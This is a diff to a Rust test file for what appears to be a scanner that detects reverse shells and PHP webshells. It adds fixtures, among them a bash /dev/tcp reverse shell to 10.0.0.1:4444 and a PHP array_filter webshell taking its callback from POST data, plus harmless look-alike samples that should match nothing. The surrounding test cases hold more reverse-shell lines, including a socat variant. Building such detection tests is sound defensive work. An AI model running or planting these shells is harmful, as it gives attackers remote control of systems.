@@ -50,6 +50,8 @@ fn every_rule_says_what_it_is_about_and_matches_it() {
             "x",
             b"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n".to_vec(),
         ),
+        ("reverse_shell_in_a_shell_script", "x", b"exec 7<>/dev/tcp/10.0.0.1/4444\n/bin/sh <&7 >&7 2>&7\n".to_vec()),
+        ("webshell_php_hidden_call", "a.php", b"<?php array_filter(array($_POST['x']), $_POST['f']);".to_vec()),
         ("reverse_shell_in_a_shell_script", "x", b"socat TCP:10.0.0.1:4444 EXEC:'bash -li',pty,stderr,setsid\n".to_vec()),
         (
             "reverse_shell_in_a_script",
@@ -93,6 +95,8 @@ fn ordinary_files_that_look_alike_match_nothing() {
             "a.php",
             "<?php preg_replace('/a/i', $_POST['x'], ''); call_user_func($handler, $_POST['x']); $x = base64_decode(strrev($y));".into(),
         ),
+        ("a.php", "<?php $ids = array_filter( $_POST['ids'] ); usort($_GET['order'], 'strcmp'); uasort($rows, $callback);".into()),
+        ("a.sh", "exec 3<>/dev/tcp/127.0.0.1/9000\necho ping >&3\nread -t 2 answer <&3 || echo down >&2\n".into()),
         ("a.sh", "exec 3<>/dev/tcp/localhost/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n'\n".into()),
         ("a.sh", "nc -z 10.0.0.1 22 && nc -l -p 80 | sh -x\nssh host sh -c id\n".into()),
         ("a.sh", "socat TCP-LISTEN:80,fork TCP:10.0.0.1:80\nmkfifo /tmp/f; cat /tmp/f\n".into()),
